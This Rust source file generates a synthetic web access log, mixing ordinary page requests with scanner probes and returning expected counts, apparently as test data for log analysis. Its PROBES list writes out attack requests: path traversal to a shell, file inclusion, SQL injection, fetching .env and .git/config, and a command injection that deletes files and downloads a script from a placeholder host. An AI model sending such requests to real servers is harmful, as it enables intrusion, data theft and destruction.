//! An access log in the combined form: people, robots, and those who look for holes.
//!
//! ```text
//! 84.17.46.9 - - [03/Feb/2025:00:00:09 +0000] "GET /wp-login.php HTTP/1.1" 404 162 "-" "Mozilla/5.0 …"
//! ```

use super::{Addresses, Digits, LineSink, LogClock};
use crate::civil::Civil;
use crate::random::Random;
use std::io::{self, Write};

/// What a stream of requests holds.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct AccessExpected {
    /// Lines written.
    pub lines: u64,
    /// Lines that look for a hole.
    pub probes: u64,
    /// Distinct addresses in all lines.
    pub addresses: u64,
}

/// A request line (as it stands in the log), its status, its size.
type SampleRequest = (&'static str, &'static str);

const PAGES: [SampleRequest; 12] = [
    ("GET / HTTP/1.1", "200"),
    ("GET /style.css HTTP/1.1", "200"),
    ("GET /script.js HTTP/1.1", "200"),
    ("GET /favicon.ico HTTP/1.1", "200"),
    ("GET /about HTTP/1.1", "200"),
    ("GET /blog/ HTTP/1.1", "200"),
    ("GET /blog/2025/spring HTTP/1.1", "200"),
    ("GET /images/harbour.jpg HTTP/1.1", "304"),
    ("GET /search?q=boats&page=2 HTTP/1.1", "200"),
    ("GET /feed.xml HTTP/1.1", "304"),
    ("POST /contact HTTP/1.1", "302"),
    ("GET /old HTTP/1.1", "301"),
];

const PROBES: [SampleRequest; 14] = [
    ("GET /wp-login.php HTTP/1.1", "404"),
    ("POST /xmlrpc.php HTTP/1.1", "404"),
    (
        "GET /wp-content/plugins/hellopress/wp_filemanager.php HTTP/1.1",
        "404",
    ),
    ("GET /.env HTTP/1.1", "404"),
    ("GET /.git/config HTTP/1.1", "403"),
    (
        "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
        "404",
    ),
    ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", "400"),
    (
        "GET /index.php?lang=../../../../../../../../tmp/index1 HTTP/1.1",
        "404",
    ),
    (
        "GET /?id=1%27%20UNION%20SELECT%201,2,3--%20- HTTP/1.1",
        "200",
    ),
    ("GET /phpmyadmin/index.php HTTP/1.1", "404"),
    (
        "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x.sh HTTP/1.1",
        "404",
    ),
    (
        "\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03",
        "400",
    ),
    ("CONNECT example.com:443 HTTP/1.1", "405"),
    ("GET /actuator/gateway/routes HTTP/1.1", "404"),
];

const AGENTS: [&str; 5] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:134.0) Gecko/20100101 Firefox/134.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Mobile/15E148 Safari/604.1",
    "curl/8.5.0",
    "-",
];

/// Writes `lines` lines of an access log from a seed, in the combined form.
///
/// # Errors
/// Where writing fails.
pub fn access_log(out: &mut dyn Write, lines: u64, seed: u64) -> io::Result<AccessExpected> {
    let mut random = Random::new(seed);
    let mut addresses = Addresses::new(lines, &mut random);
    let mut clock = LogClock::new(lines);
    let mut sink = LineSink::new(out, lines);
    let mut probes = 0;
    let (mut head, mut head_of) = (String::new(), i64::MIN);
    while !sink.is_full() {
        clock.tick(&mut random);
        if clock.seconds() != head_of {
            head_of = clock.seconds();
            head = Civil::of(head_of).access();
        }
        let index = addresses.pick(&mut random);
        let probe = random.percent(15);
        let (request, status) = *if probe {
            random.pick(&PROBES)
        } else {
            random.pick(&PAGES)
        };
        let agent = random.pick(&AGENTS);
        let size = Digits::of(if probe {
            162
        } else {
            random.between(200, 90_000)
        });
        let parts: [&[u8]; 10] = [
            b" - - [",
            head.as_bytes(),
            b"] \"",
            request.as_bytes(),
            b"\" ",
            status.as_bytes(),
            b" ",
            size.text(),
            b" \"-\" \"",
            agent.as_bytes(),
        ];
        let address = addresses.texts[index].as_bytes();
        let [a, b, c, d, e, f, g, h, i, j] = parts;
        if sink.line(address, &[a, b, c, d, e, f, g, h, i, j, b"\""]) {
            addresses.told[index] = true;
            probes += u64::from(probe);
        }
    }
    let expected = AccessExpected {
        lines: sink.lines,
        probes,
        addresses: addresses.count_told(),
    };
    sink.finish()?;
    Ok(expected)
}
